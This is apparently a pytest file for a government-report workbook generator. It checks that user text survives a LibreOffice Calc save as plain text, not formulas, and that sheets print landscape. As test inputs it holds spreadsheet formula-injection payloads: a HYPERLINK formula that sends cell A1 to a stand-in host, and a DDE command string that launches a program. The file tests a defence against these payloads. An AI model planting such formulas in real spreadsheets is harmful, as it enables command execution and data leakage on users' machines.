"""The workbook as LibreOffice Calc opens, saves and prints it.

What the user wrote stays text through a save (never a formula, not one letter
changed), the workbook's own totals stay formulas, and every sheet prints landscape
one page wide, table 三 whole on its page. Calc runs here as a separate program on
a profile of its own in the test's folder, as a user's office suite would.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
from pathlib import Path

import openpyxl
import pdfplumber
import pytest
import yaml
from tests_support import EXAMPLE_FILES

from govreport import import_report, load
from govreport import official as fmt
from govreport.facts.model import Facts
from govreport.workbook import write_folder_workbook, write_workbook
from govreport.workbook.sheets import INFO_SHEET, SUMMARY_SHEET, TABLE_SHEETS, TEXT_SHEET

pytestmark = pytest.mark.pdf

BUSY = next(p for p in EXAMPLE_FILES if p.stem == "busy-2023")
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
ARITHMETIC = "=1+1"
DDE = "=cmd|' /C calc'!A0"
TABLE_THREE_HEADERS = ["自然人", *(c.label for c in fmt.APPLICANT_COLUMNS[1:]), fmt.TOTAL.label]


def calc(pdf_tools, source: Path, to: str, tmp_path: Path) -> Path:
    """``source`` converted by LibreOffice Calc (``xlsx`` or ``pdf``) into a folder of the
    test; its profile and temporary files stay in the test's folder too."""
    out = tmp_path / f"calc-{to}"
    profile = tmp_path / "calc-profile"
    command = [
        pdf_tools.soffice,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML" if to == "xlsx" else to,
        "--outdir",
        str(out),
        str(source),
    ]
    temp = tmp_path / "calc-tmp"
    temp.mkdir(exist_ok=True)
    env = {**os.environ, "TMPDIR": str(temp), "HOME": str(tmp_path)}
    proc = subprocess.Popen(
        command,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    try:
        _, err = proc.communicate(timeout=180)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        raise
    converted = out / f"{source.stem}.{to}"
    if not converted.exists():
        if b"could not be loaded" in err:
            pytest.skip(
                "未安装 LibreOffice Calc（libreoffice-calc-nogui），无法测试工作簿的保存与打印"
            )
        raise AssertionError(err.decode(errors="replace"))
    shutil.rmtree(profile, ignore_errors=True)
    return converted


def hostile() -> Facts:
    """busy-2023 with an agency name and narratives a spreadsheet would run as formulas."""
    data = yaml.safe_load(BUSY.read_text(encoding="utf-8"))
    data["agency"]["name"] = HYPERLINK
    data["overview"].update(summary=ARITHMETIC, proactive=DDE)
    return load(data)


def formulas(book) -> list[str]:
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


# --------------------------------------------------------------------------- text stays text


def test_what_the_user_wrote_is_text_and_only_the_totals_are_formulas(tmp_path):
    target = tmp_path / "表格.xlsx"
    write_workbook(hostile(), target)
    book = openpyxl.load_workbook(target)
    name = book[INFO_SHEET]["B1"]
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    texts = book[TEXT_SHEET]
    assert [(c.value, c.data_type) for c in texts["C"][1:3]] == [(ARITHMETIC, "s"), (DDE, "s")]
    assert formulas(book) and all(f.startswith("=SUM(") for f in formulas(book))


def test_a_calc_save_keeps_the_text_letter_for_letter_and_the_totals_as_formulas(
    pdf_tools, tmp_path
):
    facts = hostile()
    target = tmp_path / "表格.xlsx"
    write_workbook(facts, target)
    saved = calc(pdf_tools, target, "xlsx", tmp_path)
    book = openpyxl.load_workbook(saved)
    name = book[INFO_SHEET]["B1"]
    assert (name.value, name.data_type) == (HYPERLINK, "s")
    texts = book[TEXT_SHEET]
    assert [(c.value, c.data_type) for c in texts["C"][1:3]] == [(ARITHMETIC, "s"), (DDE, "s")]
    totals = formulas(book)
    assert len(totals) == len(formulas(openpyxl.load_workbook(target)))
    assert all(f.upper().startswith("=SUM(") for f in totals)
    # and the saved workbook imports back to the same facts, the texts unchanged
    again = import_report(saved).facts
    assert again.agency.name == HYPERLINK
    assert (again.overview.summary, again.overview.proactive) == (ARITHMETIC, DDE)
    assert again == facts


def test_the_summary_workbook_keeps_agency_names_as_text_through_a_save(pdf_tools, tmp_path):
    target = tmp_path / "汇总.xlsx"
    write_folder_workbook([("busy", hostile())], target)
    saved = calc(pdf_tools, target, "xlsx", tmp_path)
    book = openpyxl.load_workbook(saved)
    cell = book[SUMMARY_SHEET]["A2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")
    assert all(f.upper().startswith("=SUM(") for f in formulas(book))


# --------------------------------------------------------------------------- printing


def pages_of(pdf: Path) -> list[tuple[float, float, str]]:
    """Each page's width, height and text without spaces."""
    with pdfplumber.open(pdf) as document:
        return [
            (page.width, page.height, "".join((page.extract_text() or "").split()))
            for page in document.pages
        ]


def test_the_workbook_prints_landscape_with_table_three_on_one_page_width(pdf_tools, tmp_path):
    target = tmp_path / "表格.xlsx"
    write_workbook(load(BUSY), target)
    pages = pages_of(calc(pdf_tools, target, "pdf", tmp_path))
    assert len(pages) <= 7  # five sheets; the narratives may run onto a second page
    assert all(width > height for width, height, _ in pages)
    with_headers = [text for _, _, text in pages if "商业企业" in text]
    assert len(with_headers) == 1  # table 三 is not cut into strips
    [table_three] = with_headers
    for label in [*TABLE_THREE_HEADERS, fmt.REQUEST_ROWS[0].label, fmt.REQUEST_ROWS[-1].label]:
        assert label in table_three, label
    # the header rows repeat on the narratives' second page, if there is one
    narrative_pages = [text for _, _, text in pages if "部分事项内容" in text]
    assert len(narrative_pages) == len(pages) - 4


def test_the_sheets_carry_their_page_setup(tmp_path):
    target = tmp_path / "表格.xlsx"
    write_workbook(load(BUSY), target)
    book = openpyxl.load_workbook(target)
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_area
    requests = book[TABLE_SHEETS[1]]
    assert requests.print_title_rows == "$1:$4" and requests.freeze_panes == "D5"
    assert book[TEXT_SHEET].print_title_rows == "$1:$1"


def test_the_folder_workbook_prints_each_table_on_a_landscape_page(pdf_tools, tmp_path):
    agencies = [(p.stem, load(p)) for p in EXAMPLE_FILES[:2]]
    target = tmp_path / "汇总.xlsx"
    write_folder_workbook(agencies, target)
    pages = pages_of(calc(pdf_tools, target, "pdf", tmp_path))
    assert all(width > height for width, height, _ in pages)
    assert len(pages) == 1 + 3 * len(agencies)  # the summary; each agency's three tables
    table_three = [text for _, _, text in pages if "商业企业" in text]
    assert len(table_three) == len(agencies)
    assert all(all(label in text for label in TABLE_THREE_HEADERS) for text in table_three)
